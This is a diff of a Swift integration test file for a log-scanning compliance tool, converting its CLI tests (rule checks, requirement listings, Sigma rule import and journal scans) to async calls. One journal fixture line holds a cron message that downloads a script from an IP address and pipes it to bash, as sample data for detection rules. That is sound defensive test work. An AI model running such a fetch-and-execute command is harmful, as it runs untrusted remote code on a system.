@@ -8,8 +8,8 @@ import Testing
     let rules = ProcessRunner.repositoryRoot + "/rules"
 
     @Test("rules check on the default pack passes every embedded test and says so on its last line")
-    func checkDefaultPack() throws {
-        let result = try ProcessRunner.run(agent, ["rules", "check", rules])
+    func checkDefaultPack() async throws {
+        let result = try await ProcessRunner.run(agent, ["rules", "check", rules])
         #expect(result.status == 0)
         let last = try #require(result.outputLines.last)
         #expect(last.hasSuffix(" passed, 0 failed"))
@@ -19,7 +19,7 @@ import Testing
     }
 
     @Test("rules check prints one line per failure and exits 1")
-    func checkBrokenPack() throws {
+    func checkBrokenPack() async throws {
         let directory = try TemporaryDirectory()
         let pack = directory.file("rules")
         try FileManager.default.copyItem(atPath: rules, toPath: pack)
@@ -27,7 +27,7 @@ import Testing
         let text = try String(contentsOfFile: file, encoding: .utf8)
             .replacingOccurrences(of: "- {entity: nginx.service, evidence: {result: exit-code}}", with: "- {entity: httpd.service}")
         try text.write(toFile: file, atomically: true, encoding: .utf8)
-        let result = try ProcessRunner.run(agent, ["rules", "check", pack])
+        let result = try await ProcessRunner.run(agent, ["rules", "check", pack])
         #expect(result.status == 1)
         #expect(result.outputLines.count == 2)
         #expect(
@@ -39,11 +39,11 @@ import Testing
 
     @Test(
         "a pattern that gives up on a message (PCRE2's match limit) fails its rule's test and is reported by scan, not counted as no match")
-    func patternLimits() throws {
+    func patternLimits() async throws {
         let directory = try TemporaryDirectory()
         let pack = try TestPacks.withBacktrackingRule(in: directory)
         // Before: the give-up counted as "no match", so this test passed and scan said nothing.
-        let check = try ProcessRunner.run(agent, ["rules", "check", pack])
+        let check = try await ProcessRunner.run(agent, ["rules", "check", pack])
         #expect(check.status == 1)
         #expect(check.outputLines.count == 2, "\(check.standardOutput)")
         #expect(
@@ -51,7 +51,7 @@ import Testing
                 "test.backtracking: test \"a long run of a's ending in b does not\": the message pattern gave up (PCRE2's match limit) on entry 1"
             ) == true, "\(check.standardOutput)")
 
-        let journal = try JournalFixture.write(
+        let journal = try await JournalFixture.write(
             [
                 FixtureEntry(
                     time: .at("2026-11-21T10:00:00Z"), ["SYSLOG_IDENTIFIER": "slowapp", "MESSAGE": TestPacks.backtrackingMessage]),
@@ -59,7 +59,7 @@ import Testing
                     time: .at("2026-11-21T10:00:01Z"), ["SYSLOG_IDENTIFIER": "slowapp", "MESSAGE": TestPacks.backtrackingMessage]),
                 FixtureEntry(time: .at("2026-11-21T10:00:02Z"), ["SYSLOG_IDENTIFIER": "slowapp", "MESSAGE": "aaaa"]),
             ], named: "slow.journal", in: directory)
-        let scan = try ProcessRunner.run(agent, ["scan", "--rules", pack, "--level", "3", "--journal-file", journal])
+        let scan = try await ProcessRunner.run(agent, ["scan", "--rules", pack, "--level", "3", "--journal-file", journal])
         #expect(
             scan.standardError.contains("warning: rule test.backtracking: its message pattern gave up on 2 entries"),
             "\(scan.standardError)")
@@ -67,7 +67,7 @@ import Testing
     }
 
     @Test("the catalogue: an automated requirement no rule cites, and an area outside TT12's groups, are problems")
-    func catalogueConsistency() throws {
+    func catalogueConsistency() async throws {
         let directory = try TemporaryDirectory()
         let pack = directory.file("rules")
         try FileManager.default.copyItem(atPath: rules, toPath: pack)
@@ -76,7 +76,7 @@ import Testing
         let text = try String(contentsOfFile: catalogue, encoding: .utf8)
             .replacingOccurrences(of: "  - id: ND85-NET-AC-01\n    area: network", with: "  - id: ND85-NET-AC-01\n    area: perimeter")
         try text.write(toFile: catalogue, atomically: true, encoding: .utf8)
-        let result = try ProcessRunner.run(agent, ["rules", "check", pack])
+        let result = try await ProcessRunner.run(agent, ["rules", "check", pack])
         #expect(result.status == 1)
         let lines = result.outputLines
         #expect(
@@ -91,7 +91,7 @@ import Testing
                     && $0.hasSuffix("ND85-SRV-LOG-02.check: is automated but no rule cites it; cite it from a rule or mark it manual")
             } == false, "time.sync.lost still cites it")
         try FileManager.default.removeItem(atPath: pack + "/journal/time.yaml")
-        let uncited = try ProcessRunner.run(agent, ["rules", "check", pack])
+        let uncited = try await ProcessRunner.run(agent, ["rules", "check", pack])
         #expect(
             uncited.outputLines.contains {
                 $0.hasSuffix("ND85-SRV-LOG-02.check: is automated but no rule cites it; cite it from a rule or mark it manual")
@@ -99,9 +99,9 @@ import Testing
     }
 
     @Test("rules list --level shows the parameters in force there, inherited from below")
-    func listLevels() throws {
-        let level1 = try ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "1", "--format", "json"])
-        let level4 = try ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "4", "--format", "json"])
+    func listLevels() async throws {
+        let level1 = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "1", "--format", "json"])
+        let level4 = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "4", "--format", "json"])
         func listing(_ output: String) throws -> [String: Any] {
             try #require(try JSONSerialization.jsonObject(with: Data(output.utf8)) as? [String: Any])
         }
@@ -120,7 +120,7 @@ import Testing
         let level1IDs = try #require(try listing(level1.standardOutput)["rules"] as? [[String: Any]]).compactMap { $0["id"] as? String }
         #expect(!level1IDs.contains("log.audit.stopped"), "process logging applies from level 3")
 
-        let table = try ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "3"])
+        let table = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "3"])
         #expect(table.status == 0)
         #expect(table.outputLines.first == "canh-default 2026.11.0, cấp độ 3")
         #expect(table.standardOutput.contains("failures=5 window=10m"))
@@ -128,8 +128,8 @@ import Testing
     }
 
     @Test("rules list --level: every requirement in force, with the rules that show it or \"manual\", cited at the level")
-    func listRequirements() throws {
-        let json = try ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "3", "--format", "json"])
+    func listRequirements() async throws {
+        let json = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "3", "--format", "json"])
         let listing = try #require(try JSONSerialization.jsonObject(with: Data(json.standardOutput.utf8)) as? [String: Any])
         let requirements = try #require(listing["requirements"] as? [[String: Any]])
         func requirement(_ id: String) throws -> [String: Any] { try #require(requirements.first { $0["id"] as? String == id }) }
@@ -147,13 +147,13 @@ import Testing
         #expect(try requirement("ND85-SRV-MAL-01")["provable"] as? Bool == true, "malware.protection.missing is a state check")
         #expect(try requirement("ND85-SRV-OPS-01")["provable"] as? Bool == false, "service.failed only detects")
         #expect(requirements.contains { $0["id"] as? String == "ND85-APP-NR-01" }, "non-repudiation applies at level 3")
-        let level1 = try ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "1", "--format", "json"])
+        let level1 = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "1", "--format", "json"])
         let level1Requirements = try #require(
             (try JSONSerialization.jsonObject(with: Data(level1.standardOutput.utf8)) as? [String: Any])?["requirements"]
                 as? [[String: Any]])
         #expect(!level1Requirements.contains { $0["id"] as? String == "ND85-APP-NR-01" }, "non-repudiation applies from level 3")
 
-        let english = try ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "3", "--lang", "en"])
+        let english = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "3", "--lang", "en"])
         #expect(english.outputLines.contains("ND85-SRV-LOG-02  [server]  automated: time.sync.disabled, time.sync.lost"))
         #expect(english.outputLines.contains("ND85-MGT-POL-01  [management]  manual — attested in the collector"))
         // Only a state check's pass proves a requirement: the count says how many can be.
@@ -166,25 +166,25 @@ import Testing
             english.outputLines.contains(
                 "    Legacy: Circular 12/2022 Appendix III, section II.2, row 1.2.3 (TCVN 11930:2017 clause 7.2.2.3) [mandatory, secondary]"
             ))
-        let vietnamese = try ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "3"])
+        let vietnamese = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "3"])
         #expect(vietnamese.outputLines.contains("ND85-MGT-POL-01  [quản lý]  thủ công — chứng thực tại máy chủ thu thập"))
         #expect(vietnamese.outputLines.contains { $0.hasPrefix("QUY TẮC (") })
     }
 
     @Test("--version prints the version")
-    func version() throws {
-        let result = try ProcessRunner.run(agent, ["--version"])
+    func version() async throws {
+        let result = try await ProcessRunner.run(agent, ["--version"])
         #expect(result.status == 0)
         #expect(result.outputLines == ["0.1.0"])
     }
 
     @Test("import-sigma converts what the journal carries, names every refusal, and the result checks and scans as a pack")
-    func importSigma() throws {
+    func importSigma() async throws {
         let directory = try TemporaryDirectory()
         let fixtures = ProcessRunner.repositoryRoot + "/Tests/SigmaImportTests/Fixtures"
         let pack = directory.file("rules")
         try FileManager.default.copyItem(atPath: rules, toPath: pack)
-        let imported = try ProcessRunner.run(agent, ["rules", "import-sigma", fixtures, "--output", pack + "/sigma"])
+        let imported = try await ProcessRunner.run(agent, ["rules", "import-sigma", fixtures, "--output", pack + "/sigma"])
         #expect(imported.status == 1, "some fixtures are not importable by design")
         let refusals = imported.outputLines.filter { $0.hasPrefix("not importable: ") }
         #expect(
@@ -196,7 +196,7 @@ import Testing
         #expect(refusals.contains { $0.contains("bad_regex.yml: the converted rule does not compile") })
         #expect(imported.outputLines.last == "imported 5 of 13 Sigma rules into \(pack)/sigma")
 
-        let checked = try ProcessRunner.run(agent, ["rules", "check", pack])
+        let checked = try await ProcessRunner.run(agent, ["rules", "check", pack])
         #expect(checked.status == 0, "\(checked.standardOutput)")
         #expect(checked.outputLines.contains { $0.hasPrefix("5 imported Sigma rule(s) cite no requirement") })
         #expect(checked.outputLines.contains("5 imported Sigma rule(s) have no embedded tests yet"))
@@ -206,7 +206,7 @@ import Testing
             FixtureEntry(
                 time: start + .seconds(offset), fields: fields.map { ($0.0, Array($0.1.utf8)) } + [("_HOSTNAME", Array("web01".utf8))])
         }
-        let journal = try JournalFixture.write(
+        let journal = try await JournalFixture.write(
             [
                 entry(
                     0,
@@ -225,7 +225,7 @@ import Testing
                     ]),
                 entry(3, [("SYSLOG_IDENTIFIER", "CRON"), ("MESSAGE", "(root) CMD (wget -qO- http://203.0.113.9/x | bash)")]),
             ], named: "mixed.journal", in: directory)
-        let scanned = try ProcessRunner.run(agent, ["scan", "--rules", pack, "--journal-file", journal, "--level", "3"])
+        let scanned = try await ProcessRunner.run(agent, ["scan", "--rules", pack, "--journal-file", journal, "--level", "3"])
         let sigmaRules = try scanned.outputLines.map { try FindingRecord(jsonLine: $0) }.map(\.rule).filter { $0.hasPrefix("sigma.") }
         #expect(
             sigmaRules.sorted() == [
